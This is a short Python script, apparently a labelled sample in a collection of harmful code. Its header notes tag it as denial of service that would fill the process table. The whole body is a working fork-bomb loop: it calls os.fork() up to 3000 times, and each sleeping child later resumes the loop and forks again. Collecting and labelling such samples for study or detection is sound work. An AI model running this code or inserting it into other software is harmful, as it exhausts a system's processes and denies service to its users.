# ---
# note: starts processes until it is stopped
# known_from: denial of service
# harmful: it would fill the process table
# ---
# %% plain +top
import os
import time

for _ in range(3000):
    try:
        if os.fork() == 0:
            time.sleep(600)
    except OSError:
        break
